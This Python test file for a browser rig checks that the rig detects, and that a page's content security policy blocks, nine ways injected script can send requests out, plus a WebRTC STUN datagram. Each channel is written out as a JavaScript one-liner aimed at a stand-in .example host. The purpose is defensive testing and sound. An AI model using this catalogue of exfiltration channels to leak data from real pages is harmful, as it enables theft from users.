"""What a page can send, and that the rig sees each way of it: a page with every one of them goes first."""

# Each way has a host of its own, so that it is known by what arrives, be it a request or a wish to be connected.
WAYS = {
    "image": "new Image().src = 'http://image.example/'",
    "secure-image": "new Image().src = 'https://secure-image.example/'",
    "fetch": "fetch('http://fetch.example/', { mode: 'no-cors' }).catch(() => 0)",
    "beacon": "navigator.sendBeacon('http://beacon.example/', 'words')",
    "style-sheet": "put('link', { rel: 'stylesheet', href: 'http://style-sheet.example/' })",
    "script": "put('script', { src: 'http://script.example/' })",
    "frame": "put('iframe', { src: 'http://frame.example/' })",
    "web-socket": "new WebSocket('ws://web-socket.example/')",
    "form": "put('form', { action: 'http://form.example/', target: put('iframe', { name: 'to' }).name }).submit()",
}
DATAGRAM = """(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] });
  peer.createDataChannel('words');
  await peer.setLocalDescription(await peer.createOffer());
})()"""
PUT = "window.put = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values))"


def sent(browser, server, ways):
    """Does each of these in the page that is open, and gives those of which something arrived."""
    browser.evaluate(f"void ({PUT})")
    for name in ways:
        # What a policy forbids may throw.
        browser.evaluate(f"(() => {{ try {{ {WAYS[name]}; }} catch {{}} }})()")

    def arrived():
        return [name for name in ways if any(f"{name}.example" in host + path for host, path in server.requests)]
    try:
        return browser.until(lambda: len(arrived()) == len(ways) and arrived(), "request", 2)
    except RuntimeError:
        return arrived()


def rig_sees_leaks(report, browser, server, folder):
    path = folder / "leaks.html"
    path.write_text("<!doctype html><html lang=en><title>Leaks</title><body><p>A page that tells everything.</p>"
                    "<img src=http://outside.example/first.png></body></html>", encoding="utf-8")
    browser.open(path.as_uri())
    browser.until(server.outside, "request of a page with an image from outside")
    report.check(any("first.png" in url for url in browser.requests()),
                 f"{browser.name}: the rig sees a request in the browser", browser.requests())
    report.check(any("outside.example" in url for url in server.outside()),
                 f"{browser.name}: the rig counts an image from outside", server.requests)
    arrived = sent(browser, server, WAYS)
    missing = [name for name in WAYS if name not in arrived]
    report.none(missing, f"{browser.name}: the rig counts {len(WAYS)} ways of sending")
    server.heard_datagram()
    browser.evaluate(DATAGRAM.replace("UDP", str(server.datagrams.getsockname()[1])))
    browser.until(server.heard_datagram, "datagram of a page that asks a STUN server", 10)
    report.fine(f"{browser.name}: the rig counts a datagram")


def page_sends_nothing(report, browser, server, request):
    """Whoever got a script into the page could send nothing with it: the page's policy forbids it."""
    browser.open(request.as_uri(), "!document.getElementById('page').hidden")
    server.requests.clear()
    arrived = sent(browser, server, WAYS)
    report.none(arrived, f"{browser.name}: the policy of the page stops {len(WAYS)} ways of sending")
